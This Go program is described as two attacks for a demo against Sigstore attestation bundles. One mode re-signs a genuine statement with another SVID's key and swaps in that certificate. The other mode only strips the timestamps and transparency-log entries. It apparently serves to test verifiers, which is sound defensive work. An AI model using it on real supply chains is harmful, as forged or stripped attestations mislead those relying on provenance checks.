// Resign is two attacks of the demo.
//
//	resign BUNDLE SVID.pem KEY.pem OUT
//
// takes the statement out of a genuine bundle, signs it again with another SVID's
// key and wraps it in that SVID. The signature is good and the certificate is the
// authority's own. What is missing is the hardware. Timestamps and log entries
// are of the old signature, so they are left out.
//
//	resign BUNDLE OUT
//
// leaves the signature as it is, and takes its timestamps and log entries off.
package main

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"os"

	"github.com/secure-systems-lab/go-securesystemslib/dsse"
	bundlev1 "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
	"google.golang.org/protobuf/encoding/protojson"
)

func main() {
	var err error
	switch len(os.Args) {
	case 3:
		err = strip(os.Args[1], os.Args[2])
	case 5:
		err = resign(os.Args[1], os.Args[2], os.Args[3], os.Args[4])
	default:
		fmt.Fprintln(os.Stderr, "usage: resign BUNDLE [SVID.pem KEY.pem] OUT")
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
}

// read takes a bundle without what attests its time.
func read(name string) (*bundlev1.Bundle, error) {
	raw, err := os.ReadFile(name)
	if err != nil {
		return nil, err
	}
	var b bundlev1.Bundle
	if err := protojson.Unmarshal(raw, &b); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if vm := b.GetVerificationMaterial(); vm != nil {
		vm.TimestampVerificationData, vm.TlogEntries = nil, nil
	}
	return &b, nil
}

func write(b *bundlev1.Bundle, name string) error {
	raw, err := protojson.Marshal(b)
	if err != nil {
		return err
	}
	return os.WriteFile(name, raw, 0o644)
}

func strip(bundleFile, out string) error {
	b, err := read(bundleFile)
	if err != nil {
		return err
	}
	return write(b, out)
}

func resign(bundleFile, certFile, keyFile, out string) error {
	b, err := read(bundleFile)
	if err != nil {
		return err
	}
	envelope := b.GetDsseEnvelope()
	if len(envelope.GetSignatures()) != 1 {
		return fmt.Errorf("%s: not one signature", bundleFile)
	}
	cert, err := pemBlock(certFile, "CERTIFICATE")
	if err != nil {
		return err
	}
	keyDER, err := pemBlock(keyFile, "PRIVATE KEY")
	if err != nil {
		return err
	}
	key, err := x509.ParsePKCS8PrivateKey(keyDER)
	if err != nil {
		return fmt.Errorf("%s: %w", keyFile, err)
	}
	signer, ok := key.(*ecdsa.PrivateKey)
	if !ok {
		return errors.New("the key is not ECDSA")
	}

	digest := sha256.Sum256(dsse.PAE(envelope.GetPayloadType(), envelope.GetPayload()))
	sig, err := signer.Sign(rand.Reader, digest[:], crypto.SHA256)
	if err != nil {
		return err
	}
	envelope.Signatures[0].Sig = sig
	b.GetVerificationMaterial().GetCertificate().RawBytes = cert
	return write(b, out)
}

func pemBlock(file, kind string) ([]byte, error) {
	raw, err := os.ReadFile(file)
	if err != nil {
		return nil, err
	}
	block, _ := pem.Decode(raw)
	if block == nil || block.Type != kind {
		return nil, fmt.Errorf("%s: no %s in PEM", file, kind)
	}
	return block.Bytes, nil
}
